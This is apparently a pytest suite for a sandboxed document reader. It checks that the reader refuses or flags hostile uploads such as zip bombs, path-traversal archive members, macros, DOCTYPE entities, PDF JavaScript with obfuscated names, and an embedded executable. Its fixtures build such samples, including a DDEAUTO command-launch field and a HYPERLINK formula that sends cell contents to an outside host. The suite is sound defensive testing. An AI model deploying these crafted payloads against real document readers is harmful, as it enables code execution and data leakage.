"""Files that mean harm: a reader that is taken over finds no way out; whatever comes is read or refused, in time."""

import io
import random
import time
import zipfile
from pathlib import Path

import pikepdf
import pytest

from access.folk import person
from figures import seeds, tries
from hostile import batches, grammar
from kaname.files import child, sheets
from kaname.files.confined import FONTS
from kaname.files.problems import BadInput
from kaname.papers import media, read_child, texts
from kaname.papers.api import NotTaken
from kaname.papers.models import Document
from papers.test_documents import filed, put
from papers.test_texts import book, page_of, word

HERE = Path(__file__).parent
READER = Path(read_child.__file__)
PDF = "application/pdf"


def told(content, kind=PDF):
    return child.run(READER, content, {"type": kind})


def taken_over(tmp_path, **asked):
    return child.run(
        HERE / "taken_over_child.py", b"", {"home": str(tmp_path), "fonts": str(FONTS), **asked}, seconds=2
    )


# -- the child -------------------------------------------------------------------------------------------------------


def test_a_reader_that_is_taken_over_finds_no_way_out(tmp_path, monkeypatch):
    (tmp_path / "sealing_key").write_bytes(b"key")
    monkeypatch.setenv("KANAME_SECRET", "x")
    found = taken_over(tmp_path, do="ways")
    assert child.held() == {"limits", "files", "calls"}
    assert found.head["opened"] == []
    assert "KANAME_SECRET" not in found.head["env"] and "KANAME_HOME" not in found.head["env"]
    assert found.head["files"] == []
    assert [p.name for p in tmp_path.iterdir()] == ["sealing_key"] and not (FONTS / "written").exists()


def test_without_the_walls_it_would_find_them(tmp_path, monkeypatch):
    """Planted: the same program outside; the ways it tries are ways."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("outside", HERE / "taken_over_child.py")
    outside = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(outside)
    (tmp_path / "sealing_key").write_bytes(b"key")
    for name in ("fork", "execv"):
        monkeypatch.setattr(f"os.{name}", lambda *_: None)
    monkeypatch.setattr("resource.setrlimit", lambda *_: None)
    head, _ = outside.answer({"do": "ways", "home": str(tmp_path), "fonts": str(tmp_path)}, b"")
    assert len(head["opened"]) == 17


@pytest.mark.parametrize(
    ("do", "why"),
    [("hog", "large"), ("loop", "slow"), ("nonsense", "died"), ("crash", "died"), ("deep", "large"), ("flood", "slow")],
)
def test_a_child_that_runs_out_or_dies_is_told(tmp_path, do, why, monkeypatch):
    monkeypatch.setattr(child, "ANSWER", 4 << 20)
    found = taken_over(tmp_path, do=do)
    assert found.refused == why
    assert child.TOLD[why].ja and child.TOLD[why].en


# -- office files ----------------------------------------------------------------------------------------------------


@pytest.fixture
def hana(db):
    return person("Hana", "applicant", sealed=True)


def zipped(*members, first="word/document.xml"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as parts:
        for name, content in ((first, b"<x/>"), *members):
            parts.writestr(name, content)
    return out.getvalue()


def lying(content):
    """A member that unpacks to more than the directory says."""
    raw = bytearray(zipped(("a.bin", content)))
    at = raw.rindex(b"PK\x01\x02")
    raw[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(raw)


NAMED = {
    "ratio": (zipped(("a.bin", bytes(60 << 20))), "unpacks to too much"),
    "members": (zipped(*((f"m{n}", b"") for n in range(10_001))), "unpacks to too much"),
    "macros": (zipped(("word/vbaProject.bin", b"x")), "holds macros"),
    "two in one": (zipped(("WORD/Document.xml", b"<y/>")), "broken"),
    "two strokes": (zipped(("word\\document.xml", b"<y/>")), "broken"),
    "rooted": (zipped(("/word/document.xml", b"<y/>")), "broken"),
    "way out": (zipped(("word/../../x", b"y")), "broken"),
    "cut": (zipped(("a", b"x" * 500))[:-30], "broken"),
    "no part": (b"PK\x03\x04 word/document.xml in words only", "broken"),
    "archive": (zipped(("x", b"y"), first="a.txt"), "an archive"),
    "old": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "save it as .docx"),
    "7z": (b"7z\xbc\xaf\x27\x1c" + bytes(40), "archives are not taken"),
    "gif": (b"GIF89a" + bytes(40), "save it as PNG"),
    "program": (b"MZ\x90\0\x03" + bytes(40), "programs are not taken"),
}


@pytest.mark.parametrize("name", NAMED)
def test_what_is_no_fit_file_is_refused_when_it_comes_and_told_what_to_do(hana, name):
    content, why = NAMED[name]
    with pytest.raises(NotTaken, match=why):
        put(hana, content, "a.docx")
    assert not Document.objects.exists()


def test_every_refusal_of_the_look_has_its_sentence():
    assert {"macros", "broken", "password", *child.TOLD} <= media.WHY_NOT.keys()
    codes = {"large", "slow", "died", "macros", "broken", "password", "doctype", "pages", "merged", "cells"}
    assert codes <= texts.WHY.keys()


def test_a_bomb_within_a_file_is_not_unpacked(hana):
    inner = zipped(("a.bin", bytes(30 << 20)))
    paper = put(hana, zipped(("word/embeddings/a.zip", inner * 20)), "a.docx", filed(hana))
    assert texts.read_waiting() == 1 and paper.id


@pytest.mark.parametrize(
    "content",
    [
        lying(bytes(5 << 20)),
        zipped(("word/header1.xml", b"<a>" * 100_000)),
        zipped(("word/header1.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')),
        zipped(("word/header1.xml", b"\xff\xfe<")),
    ],
)
def test_parts_that_lie_are_refused_or_read_at_once(content):
    begun = time.monotonic()
    found = told(content, read_child.WORD)
    assert found.refused in ("", "broken", "doctype", "large") and time.monotonic() - begun < 10


def test_formulas_are_marked_and_never_worked_out(hana):
    import xlsxwriter

    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as made:
        made.add_worksheet("表").write_formula(0, 0, '=HYPERLINK("http://x.example/"&A2)', None, "見かけ")
    found = told(out.getvalue(), read_child.BOOK)
    assert found.head["marks"] == ["formulas"] and "見かけ" in found.head["pages"][0]


_WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def leading(to, mode="External"):
    of = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationships><Relationship Id="r" Type="{of}/{to}" Target="x" TargetMode="{mode}"/></Relationships>'


def with_fields(*pieces, simple=""):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return ("word/header1.xml", f'<w:x xmlns:w="{_WORDS}">{runs}<w:fldSimple w:instr="{simple}"/></w:x>')


@pytest.mark.parametrize(("part", "marks"), [
    (("word/_rels/settings.xml.rels", leading("attachedTemplate")), ["links"]),
    (("word/_rels/document.xml.rels", leading("image")), ["links"]),
    (("WORD/_RELS/document.XML.RELS", leading("oleObject", "EXTERNAL")), ["links"]),
    (("word/_rels/document.xml.rels", leading("hyperlink")), []),
    (("word/_rels/x.rels", leading("image", "Internal")), []),
    (with_fields("DDEA", 'UTO c:\\x "/k calc"'), ["links"]), (with_fields(simple="includetext x"), ["links"]),
    (with_fields(' HYPERLINK "http://x.example/" '), []), (with_fields("PAGE", simple="TOC"), []),
    (("word/embeddings/oleObject1.bin", b"x"), ["files"]), (("word/afchunk.mht", b"x"), ["files"]),
])  # fmt: skip
def test_what_an_office_file_would_ask_for_as_it_opens_is_marked(part, marks):
    """Word and Excel would fetch it from whom the file names, who learns that it is read here, and when."""
    assert told(zipped(part), read_child.WORD).head["marks"] == marks


@pytest.mark.parametrize("part", ["xl/externalLinks/externalLink1.xml", "xl/connections.xml", "xl/queryTables/q1.xml"])
def test_tables_of_elsewhere_are_marked(part):
    import xlsxwriter

    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as made:
        made.add_worksheet("表").write(0, 0, "x")
    with zipfile.ZipFile(out, "a") as parts:
        parts.writestr(part, b"<x/>")
    assert told(out.getvalue(), read_child.BOOK).head["marks"] == ["links"]


def test_every_mark_has_its_sentence():
    assert texts.MARKS.keys() == {"scripts", "files", "forms", "links", "formulas"}


# -- PDF -------------------------------------------------------------------------------------------------------------


def with_script(**saved):
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(page_of("頁"))) as made:
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        made.Root.OpenAction = made.make_indirect(action)
        made.save(out, **saved)
    return out.getvalue()


PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}


@pytest.mark.parametrize(
    "content",
    [
        with_script(),
        with_script(**PACKED),
        with_script().replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/#4aS"),
    ],
)
def test_scripts_are_marked_wherever_they_hide(content):
    found = told(content)
    assert found.head["marks"] == ["scripts"] and "頁" in found.head["pages"][0]


def test_a_form_in_xml_may_hold_scripts():
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(page_of("頁"))) as made:
        made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=pikepdf.Array())
        made.save(out)
    assert told(out.getvalue()).head["marks"] == ["forms", "scripts"]


def test_files_within_are_marked(tmp_path):
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(page_of("頁"))) as made:
        made.attachments["a.exe"] = b"MZ"
        made.save(out)
    assert "files" in told(out.getvalue()).head["marks"]


def nested(depth):
    return b"%PDF-1.7\n1 0 obj\n" + b"<</A " * depth + b"1" + b">>" * depth + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def looping():
    """Tables of references that lead to each other, and pages that are their own parents."""
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    body += b"2 0 obj<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>endobj\n"
    table = b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000054 00000 n \n"
    return body + table + b"trailer<</Size 3/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF" % (len(body), len(body))


def flate_bomb():
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(page_of("頁"))) as made:
        made.pages[0].Contents = made.make_stream(b"0 0 m " * (30 << 20))
        made.save(out, compress_streams=True)
    return out.getvalue()


HOSTILE = {
    "nested": lambda: nested(100_000), "arrays": lambda: b"%PDF-1.4\n" + b"[" * 1_000_000, "loops": looping,
    "bomb": flate_bomb, "count": lambda: looping().replace(b"/Count 9", b"/Count 999999999"),
    "cut": lambda: page_of("頁")[:700], "nothing": lambda: b"%PDF-1.7\n",
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_pdf_is_read_or_refused_in_time(name):
    begun = time.monotonic()
    found = told(HOSTILE[name]())
    assert not found.refused or found.refused in texts.WHY
    assert time.monotonic() - begun < child.SECONDS + 10


# -- anything at all -------------------------------------------------------------------------------------------------

SEEDS = {
    PDF: [page_of("特定重要設備"), with_script(), with_script(**PACKED)],
    read_child.BOOK: [book(表=[["番号", "設備"], ["1", "盤"]], 二=[["x"] * 9] * 9)],
    read_child.WORD: [word("届出の", "特定重要設備の概要")],
}
EACH = 500
MUTANTS = tries(1, ci=6, soak=400)  # seeds, of each kind: 3,000 files each, 200,000 in the soak


@pytest.mark.parametrize("kind", [PDF, read_child.BOOK])
def test_whatever_is_changed_in_a_file_it_is_read_or_refused(kind):
    """Many in a child; what takes a child down has one of its own, and is told so."""
    said = set()
    for seed in seeds(MUTANTS, fewest=1):
        lot = random.Random(seed)
        files = [("read", {"type": kind}, grammar.mutated(lot, lot.choice(SEEDS[kind]))) for _ in range(EACH)]
        said |= {one.get("refused", "") for one in batches.told(files)}
    assert said - {""} <= texts.WHY.keys()
    assert {"", "broken"} <= said  # some were read, some were not


def test_tables_are_told_in_words_whatever_is_changed_in_them(monkeypatch):
    read = 0
    for seed in seeds(MUTANTS, fewest=1):
        lot = random.Random(seed)
        books = [grammar.mutated(lot, SEEDS[read_child.BOOK][0]) for _ in range(EACH)]
        for raw, said in zip(books, batches.told([("sheet", {}, raw) for raw in books]), strict=True):
            monkeypatch.setattr(child, "run", lambda *_, said=said: child.Answer(said, b""))
            try:
                read += bool(sheets.sheets_of("a.xlsx", raw))
            except BadInput as bad:
                assert bad.lines("ja") and bad.lines("en")
            monkeypatch.undo()
    assert read
